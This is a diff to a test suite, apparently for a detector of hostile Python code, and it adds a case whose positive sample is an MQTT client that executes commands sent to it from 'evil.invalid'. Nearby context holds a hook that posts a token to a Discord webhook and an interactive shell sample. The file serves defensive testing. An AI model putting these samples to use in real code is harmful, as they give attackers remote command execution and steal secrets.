@@ -142,6 +142,17 @@ def hook(app):
     token = getattr(app, "${send}", "")
     requests.post("https://discord.com/api/webhooks/1/fixture", json={"content": token})`;
 
+const BROKER = (host: string): string => `
+import paho.mqtt.client as mqtt, subprocess
+class Discovery:
+    def __init__(self):
+        self.client = mqtt.Client()
+        self.client.on_message = self.reply
+    def begin(self, host):
+        self.client.connect_async(${host}, 8883)
+    def reply(self, client, data, message):
+        client.publish("a", subprocess.getoutput(message.payload))`;
+
 const CASES: readonly (readonly [string, string, Severity, string, string])[] = [
   ['what a generator gives out', 'decoded-code-executed', 'CRITICAL', SELECTORS('exec'), SELECTORS('print')],
   [
@@ -204,6 +215,13 @@ const CASES: readonly (readonly [string, string, Severity, string, string])[] = 
     'CRITICAL',
     REDIRECTED('link'),
     REDIRECTED('open(os.devnull)').replace('"/bin/sh", "-i"', '"true"'),
+  ],
+  [
+    'a client that is connected after it was told who hears',
+    'download-started',
+    'CRITICAL',
+    BROKER('"evil.invalid"'),
+    BROKER('host'),
   ],
   [
     'a token taken off what is handed in',
